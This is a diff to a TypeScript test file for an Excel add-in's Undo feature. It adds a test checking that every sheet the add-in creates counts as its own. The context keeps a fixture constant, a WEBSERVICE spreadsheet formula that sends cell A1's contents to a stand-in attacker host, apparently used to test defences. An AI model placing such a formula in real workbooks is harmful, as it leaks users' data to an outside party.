@@ -9,7 +9,8 @@ import { workbookSnapshot } from '../xlsx/readSnapshot';
 import { createFakeExcel, fakeWorkbookFrom, type FakeHost } from '../../fake-excel/fakeExcel';
 import { demoWorkbookSpecs } from '../../samples/demoWorkbook';
 import { createExcelHost, UNDO_SHEET, UndoRefused, type ExcelRun, type KeyStore } from '.';
-import { CHUNK, refusalMessage, type UndoRecord } from './undoRecord';
+import { CHUNK, OWN_SHEETS, refusalMessage, type UndoRecord } from './undoRecord';
+import { reviewPlan, ReviewCollector, SETTINGS_SHEET, SUMMARY_SHEET, templateSheetSpecs } from '../../engine';
 import { KEY_PREFIX, undoSigner, WORKBOOK_ID_SETTING } from './undoSignature';
 
 const WEBSERVICE = '=WEBSERVICE("http://attacker.example/?d="&A1)';
@@ -248,4 +249,12 @@ test('without Web Crypto (a page not served over https) Grade writes nothing and
     Object.defineProperty(globalThis, 'crypto', { value: real, configurable: true });
   }
   expect(state(f)).toBe(before);
+});
+
+test("every sheet the add-in makes is one of its own, which Undo may delete or put back (a genuine record is never refused as foreign)", () => {
+  const review = reviewPlan(new ReviewCollector().finish());
+  const made = [...templateSheetSpecs({ fiscalYear: 2023, planStart: 2021, planEnd: 2025, sample: true }).map((s) => s.name), ...review.sheets.map((s) => s.spec.name), SUMMARY_SHEET, SETTINGS_SHEET];
+  expect(made.length).toBeGreaterThanOrEqual(9);
+  for (const name of made) expect(OWN_SHEETS.has(name)).toBe(true);
+  expect(OWN_SHEETS.has('施策評価シート')).toBe(false);
 });
